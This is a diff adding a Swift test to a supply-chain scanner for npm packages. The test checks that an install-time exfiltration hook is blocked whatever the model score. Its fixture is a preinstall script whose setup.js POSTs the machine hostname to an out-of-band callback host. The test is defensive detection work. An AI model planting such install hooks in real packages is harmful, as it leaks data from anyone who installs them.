@@ -69,6 +69,48 @@ import Testing
         #expect(report.exitCode == .blocked)
     }
 
+    @Test func anInstallTimeThreatBlocksWhateverTheScore() throws {
+        let directory = try TemporaryDirectory()
+        try directory.write(
+            "hooked/package.json",
+            #"{"name": "hooked", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}"#)
+        try directory.write(
+            "hooked/setup.js",
+            "const os = require('os');\nfetch('https://abc.oast.fun/u', {method: 'POST', body: os.hostname()});\n")
+        try directory.write("hooked/index.js", "module.exports = (a, b) => a + b;\n")
+        try directory.write(
+            "plain/package.json", #"{"name": "plain", "version": "1.0.0", "scripts": {"test": "node t.js"}}"#)
+        try directory.write("plain/index.js", "module.exports = 'https://abc.oast.fun/u';\n")
+        // Thresholds no score reaches: only the rule can block.
+        let (policy, path) = try DetectorHarness.policy(
+            "version: 1\nthresholds: {block: 0.9999, warn: 0.9998}\n", in: directory)
+        let options = AuditOptions(
+            paths: ["hooked", "plain"], workingDirectory: directory.path, policy: policy, policyPath: path,
+            today: DetectorHarness.today)
+        let report = Scanner(classifier: try DetectorModels.primary.get()).scan(
+            ["hooked", "plain"], ecosystem: .npm, options: options)
+        let hooked = try #require(report.packages.first { $0.input == "hooked" })
+        let finding = try #require(hooked.findings.first { $0.rule == "install_time_threat" })
+        #expect(hooked.verdict == .block)
+        #expect(finding.severity == .block)
+        #expect(finding.message.contains("out-of-band"), "\(finding.message)")
+        #expect(finding.evidence.first?.path == "hooked/setup.js" && finding.evidence.first?.line == 2)
+        // The same URL outside the install step is the model's to judge.
+        let plain = try #require(report.packages.first { $0.input == "plain" })
+        #expect(!plain.findings.contains { $0.rule == "install_time_threat" })
+        #expect(plain.verdict == .pass)
+        // A policy can lower the rule like any other.
+        let (lowered, loweredPath) = try DetectorHarness.policy(
+            "version: 1\nthresholds: {block: 0.9999, warn: 0.9998}\nrules: {install_time_threat: warn}\n",
+            in: directory)
+        let warned = Scanner(classifier: try DetectorModels.primary.get()).scan(
+            ["hooked"], ecosystem: .npm,
+            options: AuditOptions(
+                paths: ["hooked"], workingDirectory: directory.path, policy: lowered, policyPath: loweredPath,
+                today: DetectorHarness.today))
+        #expect(warned.packages.first?.verdict == .warn)
+    }
+
     @Test func directoryEvidenceIsRelativeToTheDirectory() throws {
         let directory = try TemporaryDirectory()
         let files = DetectorFixtures.files(.npmStealer, name: "envpost", version: "1.0.0", variant: 44)
